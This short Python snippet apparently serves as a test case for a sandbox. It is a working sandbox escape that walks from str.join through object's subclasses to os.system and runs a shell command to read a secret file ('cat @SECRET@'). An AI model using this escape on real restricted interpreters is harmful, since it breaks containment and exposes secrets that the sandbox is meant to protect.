# A slot descriptor knows its class, the class its bases.
# effect: run
root = str.join.__objclass__.__base__
{k.__name__: k for k in root.__subclasses__()}["_wrap_close"].__init__.__globals__["system"]("cat @SECRET@")
